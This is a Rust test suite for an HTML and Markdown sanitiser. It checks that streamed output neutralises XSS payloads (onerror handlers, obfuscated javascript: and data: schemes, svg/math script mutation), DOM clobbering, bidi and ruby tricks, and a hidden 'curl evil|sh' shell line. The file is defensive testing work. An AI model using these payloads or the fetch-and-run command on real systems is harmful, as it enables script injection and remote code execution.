//! Hostile text natively: what the safe tree holds, at each way of fetching, clobbering, smuggling a scheme and cutting;
//! and that the tree, written as HTML and parsed again, is the same tree.

use std::path::PathBuf;

use html5ever::tendril::TendrilSink;
use html5ever::tokenizer::TokenizerOpts;
use html5ever::{ParseOpts, QualName, local_name, ns};
use markup5ever_rcdom::{Handle, NodeData, RcDom};
use riacho_tests::oracle::{oracle, streamed, tree};
use riacho_wasm::core::engine::tree::{Kind, Node};
use riacho_wasm::core::policy::{Images, Policy};

/// The finished page, however the text is cut: by character, and as a whole.
fn shown(text: &str) -> String {
    let whole = streamed([text]).page.shown();
    let characters: Vec<String> = text.chars().map(String::from).collect();
    assert_eq!(streamed(characters.iter().map(String::as_str)).page.shown(), whole, "{text:?}");
    whole
}

/// Attribute names and values of the page in the notation of the oracle.
fn attributes(shown: &str) -> Vec<(String, String)> {
    let mut found = Vec::new();
    // Text has no `<`: what follows one is a tag, and values are written with escaped quotes.
    for tag in shown.split('<').skip(1).filter(|tag| !tag.starts_with('/')) {
        let mut rest = tag;
        while let Some((head, tail)) = rest.split_once("=\"") {
            if head.contains('>') {
                // The tag is over: this is text.
                break;
            }
            let name = head.rsplit(' ').next().unwrap_or_default().to_owned();
            let mut end = 0;
            let mut escaped = false;
            for (at, c) in tail.char_indices() {
                if c == '"' && !escaped {
                    end = at;
                    break;
                }
                escaped = c == '\\' && !escaped;
            }
            found.push((name, tail[..end].to_owned()));
            rest = &tail[end..];
        }
    }
    found
}

#[test]
fn nothing_is_fetched_in_any_way_that_is_known() {
    let ways: Vec<(String, String)> =
        serde_json::from_str(include_str!("../fixtures/fetches.json")).expect("a list of pairs");
    assert!(ways.len() > 80);
    for (name, text) in ways {
        let text = text.replace("BEACONHOST", "b.example").replace("BEACON", "http://b.example/x");
        // However it is cut, it ends as this tree.
        assert_eq!(shown(&text), oracle(&text, &Policy::default(), "m"), "{name}");
        unfetching(&name, &tree(&text, &Policy::default(), "m"));
    }
}

/// Nothing in these nodes makes a browser ask for anything.
fn unfetching(name: &str, nodes: &[Node]) {
    const HARMLESS: [&str; 25] = [
        "a",
        "b",
        "blockquote",
        "br",
        "code",
        "details",
        "div",
        "h1",
        "input",
        "li",
        "ol",
        "p",
        "pre",
        "q",
        "span",
        "summary",
        "sup",
        "table",
        "tbody",
        "td",
        "th",
        "thead",
        "tr",
        "ul",
        "hr",
    ];
    const ATTRIBUTES: [&str; 11] = [
        "align",
        "class",
        "data-riacho-src",
        "data-riacho-ui",
        "disabled",
        "href",
        "id",
        "open",
        "rel",
        "title",
        "type",
    ];
    for node in nodes {
        if let Kind::Element(element) = &node.kind {
            assert!(HARMLESS.contains(&element.name()), "{name}: {}", element.name());
            for (attribute, value) in element.attrs() {
                assert!(ATTRIBUTES.contains(&attribute), "{name}: {attribute}={value}");
                assert!(attribute != "href" || element.name() == "a", "{name}: {value}");
            }
        }
        unfetching(name, &node.kids);
    }
}

#[test]
fn no_name_of_the_pages_is_taken() {
    for name in [
        "body",
        "head",
        "forms",
        "images",
        "cookie",
        "location",
        "getElementById",
        "querySelector",
        "createElement",
        "documentElement",
        "defaultView",
        "currentScript",
        "implementation",
        "firstChild",
        "children",
        "attributes",
        "parentNode",
        "innerHTML",
        "nodeName",
        "toString",
        "valueOf",
        "constructor",
        "__proto__",
        "prototype",
        "self",
        "top",
        "parent",
        "window",
        "name",
        "riacho",
        "root",
        "app",
        "chat",
        "alert",
        "trustedTypes",
        "config",
        "user-content-m-x",
        "data-message-id",
    ] {
        let raw = format!(
            "<a id={name} name={name} href=\"#{name}\">x</a><img id={name} name={name}><form id={name} name={name}>\
             <input name={name} id={name} form={name}></form><p id={name}>y</p><b class=\"{name}\">z</b>"
        );
        for text in [raw, format!("# {name}\n\nx[^{name}] [y](#{name})\n\n[^{name}]: z\n")] {
            let page = shown(&text);
            for (attribute, value) in attributes(&page) {
                match attribute.as_str() {
                    "id" => assert!(value.starts_with("user-content-m-"), "{text}: {page}"),
                    "href" => assert!(value.starts_with("#user-content-m-"), "{text}: {page}"),
                    "class" => {
                        assert!(value.starts_with("footnote-") || value == "riacho-image", "{text}: {page}")
                    }
                    other => assert!(["rel", "data-riacho-src"].contains(&other), "{text}: {other}"),
                }
            }
        }
    }
}

#[test]
fn links_to_headings_and_footnotes_lead_there() {
    let page = shown("[a](#o-que-é) b[^1]\n\n## O que é?\n\n[^1]: c\n");
    let found = attributes(&page);
    let has = |name: &str, value: &str| found.iter().any(|(n, v)| n == name && v == value);
    assert!(has("id", "user-content-m-o-que-é") && has("id", "user-content-m-fn-1"), "{page}");
    assert!(has("href", "#user-content-m-o-que-%C3%A9") && has("href", "#user-content-m-fn-1"), "{page}");
}

#[test]
fn a_heading_and_a_footnote_of_one_name_are_two_places() {
    // With raw HTML around it the sanitiser's module writes it.
    for (before, after) in [("", ""), ("<div>\n\n", "\n</div>\n")] {
        let page = shown(&format!("{before}## Note\n\n[a](#note) b[^note]\n\n[^note]: c\n{after}"));
        let found = attributes(&page);
        let all = |name: &str| -> Vec<&str> {
            found.iter().filter(|(n, _)| n == name).map(|(_, value)| value.as_str()).collect()
        };
        assert_eq!(all("id"), ["user-content-m-note", "user-content-m-fn-note"], "{page}");
        assert_eq!(all("href"), ["#user-content-m-note", "#user-content-m-fn-note"], "{page}");
    }
}

#[test]
fn no_scheme_that_runs_or_reads_gets_through() {
    let schemes = [
        "javascript",
        "vbscript",
        "data",
        "file",
        "blob",
        "filesystem",
        "view-source",
        "about",
        "jar",
        "ms-its",
        "livescript",
        "mocha",
    ];
    let spellings = |scheme: &str| {
        let middle = scheme.len() / 2;
        let (head, tail) = scheme.split_at(middle);
        let entities: String = scheme.chars().map(|c| format!("&#{};", u32::from(c))).collect();
        let hexes: String = scheme.chars().map(|c| format!("&#X{:07x};", u32::from(c))).collect();
        let mixed: String = scheme
            .chars()
            .enumerate()
            .map(|(at, c)| if at % 2 == 0 { c.to_ascii_uppercase() } else { c })
            .collect();
        vec![
            format!("{scheme}:"),
            format!("{}:", scheme.to_uppercase()),
            format!("{mixed}:"),
            format!("{scheme}&colon;"),
            format!("{scheme}&#58;"),
            format!("{scheme}&#x3a;"),
            format!("{entities}:"),
            format!("{hexes}&colon;"),
            format!("{head}&Tab;{tail}:"),
            format!("{head}&NewLine;{tail}:"),
            format!("{head}&#9;{tail}:"),
            format!("{head}&#10;{tail}:"),
            format!("{head}&#13;{tail}:"),
            format!("{scheme}&#9;:"),
            format!("&#1;{scheme}:"),
            format!("&#32;{scheme}:"),
            format!("&#0;{scheme}:"),
            format!("&#14; {scheme}:"),
            format!("{head}\t{tail}:"),
            format!("{head}\n{tail}:"),
            format!("{head}\r\n{tail}:"),
            format!("\u{1}{scheme}:"),
            format!("{scheme}\u{200b}:"),
            format!("feed:{scheme}:"),
            format!("{head}\\{tail}:"),
            format!("{head}\0{tail}:"),
            format!(" {scheme}:"),
        ]
    };
    for scheme in schemes {
        for spelling in spellings(scheme) {
            let url = format!("{spelling}alert(1)//https://a.example");
            for text in [
                format!("[x]({url})"),
                format!("[x](<{url}>)"),
                format!("<{url}>"),
                format!("[x][r]\n\n[r]: {url}"),
                format!("[r]: <{url}>\n\n[r]"),
                format!("![x]({url})"),
                format!("![x][r]\n\n[r]: {url} \"t\""),
                format!("<a href=\"{url}\">x</a>"),
                format!("y <a href='{url}'>x</a>"),
                format!("<a href={url}>x</a>"),
                format!("<img src=\"{url}\">"),
                format!("<p><a\thref\n=\n\"{url}\">x"),
                format!("[x](http:{url})"),
            ] {
                for (name, value) in attributes(&oracle(&text, &Policy::default(), "m")) {
                    if ["href", "data-riacho-src", "src"].contains(&name.as_str()) {
                        // As a browser reads it: without tabs, line ends, and controls in front.
                        let read: String =
                            value.chars().filter(|c| !matches!(c, '\t' | '\n' | '\r')).collect();
                        let read = read.trim_start_matches(|c: char| c <= ' ').to_ascii_lowercase();
                        let colon = read.split(['/', '?', '#']).next().and_then(|head| head.split_once(':'));
                        let named = colon
                            .map(|(scheme, _)| scheme)
                            .filter(|s| s.chars().all(|c| c.is_ascii_alphanumeric() || "+-.".contains(c)));
                        assert!(
                            named.is_none_or(|s| ["http", "https", "mailto", "tel"].contains(&s)),
                            "{text:?}: {value:?}"
                        );
                    }
                }
            }
        }
    }
}

#[test]
fn no_url_is_used_before_it_is_whole() {
    for text in [
        "[x](https://a.example/path?q=1#z)",
        "![x](https://a.example/path?q=1#z)",
        "[x](<https://a.example/path?q=1#z> \"t\")",
        "<a href=\"https://a.example/path?q=1#z\">x</a>",
        "<https://a.example/path?q=1#z>",
    ] {
        let mut stream = riacho_tests::oracle::Stream::default();
        for c in text.chars() {
            stream.piece(c.encode_utf8(&mut [0; 4]));
            for (name, value) in attributes(&stream.page.shown()) {
                if ["href", "data-riacho-src", "src"].contains(&name.as_str()) {
                    assert_eq!(value, "https://a.example/path?q=1#z", "{text}");
                }
            }
        }
    }
}

#[test]
fn a_tag_split_at_any_byte_is_the_same_harmless_tag() {
    for text in [
        "<img src=x onerror=alert(1)>",
        "x <a href=\"java&#115;cript:alert(1)\" onclick='alert(1)'>é</a> y",
        "<svg><script>alert(1)</script></svg>",
        "<math><mtext></mtext><style><img src onerror=alert(1)></style></math>",
        "<details open ontoggle=alert(1)><summary>é</summary></details>",
        "<!-- é --><p style=\"x:expression(alert(1))\">é</p>",
        "<iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\"></iframe>",
    ] {
        let whole = streamed([text]).page.shown();
        for first in (0..=text.len()).filter(|&at| text.is_char_boundary(at)) {
            for second in (first..=text.len()).filter(|&at| text.is_char_boundary(at)) {
                let page = streamed([&text[..first], &text[first..second], &text[second..]]).page.shown();
                assert_eq!(page, whole, "{text} at {first} and {second}");
            }
        }
        assert!(
            attributes(&whole).iter().all(|(name, _)| !name.starts_with("on") && name != "style"),
            "{whole}"
        );
    }
}

#[test]
fn no_element_turns_a_line_around() {
    // Isolates and directions within a line: what their characters do, in HTML.
    let page = shown(
        "<a dir=rtl href=\"https://com.bank.evil.app\"><bdi>com</bdi>.<bdi>bank</bdi>.<bdi>evil</bdi>.<bdi>app</bdi></a> \
         <code dir=rtl><bdo dir=rtl>x</bdo></code> <span dir=auto>y</span>",
    );
    assert!(!page.contains("dir=") && !page.contains("<bd"), "{page}");
    // A block has a direction of its own.
    assert!(shown("<div dir=rtl>\n\nשלום\n\n</div>").starts_with("<div dir=\"rtl\"><p>"));
}

#[test]
fn nothing_is_in_the_tree_that_no_browser_shows() {
    // It would be read by programs, and copied with code; and it would come between the letters of a host.
    assert_eq!(
        shown("<pre><code>ls<rp>; curl evil|sh</rp></code></pre>"),
        "<pre><code>ls; curl evil|sh</code></pre>"
    );
    assert_eq!(
        shown("<ruby>漢<rp>(</rp><rt>かん</rt><rp>)</rp></ruby>"),
        "<p><ruby>漢<rt>かん</rt></ruby></p>"
    );
    assert_eq!(shown("<rp>\n\nfoo\n\nbar"), "<p>foo</p><p>bar</p>");
    let page = shown("<a href=\"https://evil.example\">bank<rp> </rp>.<rp> </rp>example</a>");
    assert!(page.contains(">bank.example<span") && page.contains(" (evil.example)"), "{page}");
}

#[test]
fn control_characters_are_seen_however_they_are_written() {
    for c in ('\u{1}'..='\u{1f}').chain('\u{7f}'..='\u{9f}').filter(|c| !"\t\n\r".contains(*c)) {
        let mut texts = vec![format!("a{c}b `c{c}d` <b title=\"e{c}f\">g{c}h</b>\n\n```i{c}j\nk{c}l\n```\n")];
        // These stand for characters of Windows.
        if !('\u{80}'..='\u{9f}').contains(&c) {
            let code = u32::from(c);
            texts.push(format!(
                "a&#{code};b [c](d \"e&#{code};f\") <b title=\"g&#{code};h\">i&#x{code:x};j</b>"
            ));
        }
        for text in texts {
            let page = shown(&text);
            assert!(
                page.contains('\u{fffd}') && !page.contains(|c: char| c.is_control() && c != '\n'),
                "{page:?}"
            );
            assert_eq!(page, oracle(&text, &Policy::default(), "m"));
        }
    }
}

#[test]
fn what_a_link_claims_is_read_without_its_images_and_with_their_text() {
    let images = Images::From { origins: vec!["https://a.example".into()], own: false };
    for policy in [Policy::default(), Policy::builder().images(images).build().expect("a policy")] {
        for text in [
            "[bank![ ](https://a.example/1.png).![ ](https://a.example/1.png)example](https://evil.example)",
            "[![bank.example](https://a.example/1.png)](https://evil.example)",
            "<a href=\"https://evil.example\">x <img alt=\"bank.example\" src=\"https://a.example/1.png\"></a>",
        ] {
            let page = oracle(text, &policy, "m");
            assert!(page.contains("> (evil.example)</span>"), "{page}");
        }
    }
}

#[test]
fn a_form_that_its_container_ended_still_keeps_the_next_one_out() {
    for text in [
        "> <form>\n\nb <form> c\n\nd",
        "- <form>\n\nb <form>",
        "<div><form></div>\n\nx <form>y</form> <form>z",
    ] {
        assert_eq!(shown(text), oracle(text, &Policy::default(), "m"), "{text}");
    }
}

/// The tree as HTML, as a browser would write it.
fn html(nodes: &[Node], out: &mut String) {
    for node in nodes {
        match &node.kind {
            Kind::Text { text, .. } => out.push_str(&escaped(text)),
            Kind::Virtual => html(&node.kids, out),
            Kind::Element(element) => {
                let name = element.name();
                out.push_str(&format!("<{name}"));
                element
                    .attrs()
                    .for_each(|(name, value)| out.push_str(&format!(" {name}=\"{}\"", escaped(value))));
                out.push('>');
                html(&node.kids, out);
                if !matches!(name, "br" | "col" | "hr" | "img" | "input" | "wbr") {
                    out.push_str(&format!("</{name}>"));
                }
            }
        }
    }
}

fn escaped(text: &str) -> String {
    let text = text.replace('&', "&amp;").replace('\u{a0}', "&nbsp;");
    text.replace('<', "&lt;").replace('>', "&gt;").replace('"', "&quot;")
}

/// What html5ever makes of HTML in a `div`, written again.
fn parsed(written: &str) -> String {
    let context = QualName::new(None, ns!(html), local_name!("div"));
    let options = ParseOpts {
        tokenizer: TokenizerOpts { discard_bom: false, ..TokenizerOpts::default() },
        ..ParseOpts::default()
    };
    let dom = html5ever::parse_fragment(RcDom::default(), options, context, vec![], false).one(written);
    let mut out = String::new();
    let children = dom.document.children.borrow();
    for root in children.iter() {
        root.children.borrow().iter().for_each(|node| write(node, &mut out));
    }
    out
}

fn write(node: &Handle, out: &mut String) {
    match &node.data {
        NodeData::Text { contents } => out.push_str(&escaped(&contents.borrow())),
        NodeData::Element { name, attrs, .. } => {
            assert_eq!(name.ns, ns!(html));
            out.push_str(&format!("<{}", name.local));
            for attr in attrs.borrow().iter() {
                out.push_str(&format!(" {}=\"{}\"", attr.name.local, escaped(&attr.value)));
            }
            out.push('>');
            node.children.borrow().iter().for_each(|child| write(child, out));
            if !matches!(&*name.local, "br" | "col" | "hr" | "img" | "input" | "wbr") {
                out.push_str(&format!("</{}>", name.local));
            }
        }
        other => panic!("{other:?} in what was written"),
    }
}

#[test]
fn the_tree_written_as_html_is_parsed_as_the_same_tree() {
    let Some(folder) = std::env::var_os("RIACHO_CORPORA") else {
        eprintln!("skipped: RIACHO_CORPORA is not set");
        return;
    };
    let mut texts = Vec::new();
    for file in ["attacks.jsonl", "conformance.jsonl"] {
        let lines = std::fs::read_to_string(PathBuf::from(&folder).join(file)).expect("the corpus");
        texts.extend(lines.lines().map(|line| {
            let case: serde_json::Value = serde_json::from_str(line).expect("a case");
            case["data"].as_str().expect("data").to_owned()
        }));
    }
    assert!(texts.len() > 3500);
    let mut failures = Vec::new();
    for text in &texts {
        let mut written = String::new();
        html(&tree(text, &Policy::default(), "m"), &mut written);
        let again = parsed(&written);
        if again != written {
            failures.push(format!("{text:?}\n  written {written}\n  again   {again}"));
        }
    }
    failures.iter().take(10).for_each(|failure| eprintln!("{failure}"));
    assert!(
        failures.is_empty(),
        "{} of {} trees are other trees when parsed again",
        failures.len(),
        texts.len()
    );
}
